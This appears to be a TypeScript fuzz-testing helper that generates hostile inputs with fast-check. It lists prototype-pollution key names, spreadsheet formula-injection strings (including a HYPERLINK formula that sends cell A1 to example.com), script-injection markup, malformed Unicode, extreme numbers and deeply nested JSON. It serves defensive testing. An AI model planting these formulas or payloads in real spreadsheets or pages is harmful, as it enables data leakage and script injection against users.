/** Values that somebody writes who means harm, or by accident: what cells, pages, stored records, and answers may hold. */
import fc from 'fast-check';

/** Names that every JavaScript object has, and one that serialization calls. */
export const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'toJSON',
  '__defineGetter__',
] as const;

/** Texts that a spreadsheet may take for a formula: as typed, behind something invisible, and in full-width forms. */
export const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '﹦1+1',
  '=HYPERLINK("https://example.com/?"&A1,"Ada")',
  '=IMPORTXML("https://example.com","//a")',
  "'=1+1",
] as const;

const MARKUP = [
  '<img src=x onerror="globalThis.polluted=1">',
  '</script><script>globalThis.polluted=1</script>',
  '<?= 1 ?>',
  '&lt;b&gt;',
  'javascript:globalThis.polluted=1',
  'data:text/html,<script>1</script>',
  '{{globalThis.polluted=1}}',
  '$&$1$`',
  '\\u0000\\x3c',
  'https://example.com/"onmouseover="x',
] as const;

const ODD_CHARACTERS = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  'Ada \udc00 Lovelace',
  '\u200b\u200d\u2060',
  '\u202eevol@example.com',
  'مرحبا',
  'e\u0301'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(20),
  'a,b;c:d\n"e"',
  'line\r\nbreak\u2028\u2029',
] as const;

const NUMBERS_AS_TEXT = [
  '0',
  '-1',
  '1e999',
  'NaN',
  'Infinity',
  '0x10',
  '9'.repeat(400),
  '2026-13-45',
] as const;

/** The characters of the longest text that a cell holds (Google's limit). */
export const LONGEST_CELL = 50_000;

const LONG = ['x', '=', ' ', '\u200b', 'a@', 'ab ', '<b>', '\ud83d\ude00'].map((part) =>
  part.repeat(LONGEST_CELL / part.length),
);

/** Makes hostile texts, rarely long ones. */
export function hostileText(): fc.Arbitrary<string> {
  const known = fc.constantFrom(
    ...PROTOTYPE_NAMES,
    ...FORMULAS,
    ...MARKUP,
    ...ODD_CHARACTERS,
    ...NUMBERS_AS_TEXT,
  );
  return fc.oneof(
    { weight: 12, arbitrary: known },
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 2, arbitrary: fc.tuple(known, known).map(([one, other]) => one + other) },
    { weight: 1, arbitrary: fc.constantFrom(...LONG) },
  );
}

const NUMBERS = [0, -0, -1, 0.1, 1e21, -1e21, 2 ** 53, Number.MAX_VALUE, Number.MIN_VALUE, 1e308] as const;

/** Makes numbers at the borders of what a number can be; all of them can be written as JSON. */
export function hostileNumber(): fc.Arbitrary<number> {
  return fc.oneof(fc.constantFrom(...NUMBERS), fc.double({ noNaN: true, noDefaultInfinity: true }));
}

/** Returns lists that nest so deeply. */
export function nested(depth: number, as: 'lists' | 'objects' = 'lists'): unknown {
  let value: unknown = 0;
  for (let level = 0; level < depth; level += 1) value = as === 'lists' ? [value] : { constructor: value };
  return value;
}

/** Returns an object whose own properties have these names, `__proto__` included, as a JSON text can make one. */
export function withNames(names: readonly string[], value: unknown): unknown {
  return JSON.parse(`{${names.map((name) => `${JSON.stringify(name)}:${JSON.stringify(value)}`).join(',')}}`);
}

/** Makes values that can be written as JSON: of each kind, nested, and under names that JavaScript itself uses. */
export function hostileJson(): fc.Arbitrary<unknown> {
  const plain = fc.oneof(hostileText(), hostileNumber(), fc.boolean(), fc.constant(null));
  const name = fc.oneof(fc.constantFrom(...PROTOTYPE_NAMES), hostileText());
  return fc.oneof(
    { weight: 6, arbitrary: plain },
    { weight: 1, arbitrary: fc.array(plain, { maxLength: 4 }) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.uniqueArray(name, { maxLength: 4 }), plain)
        .map(([names, value]) => withNames(names, value)),
    },
    { weight: 1, arbitrary: fc.constantFrom(...[50, 1_000, 20_000].map((depth) => nested(depth))) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  );
}
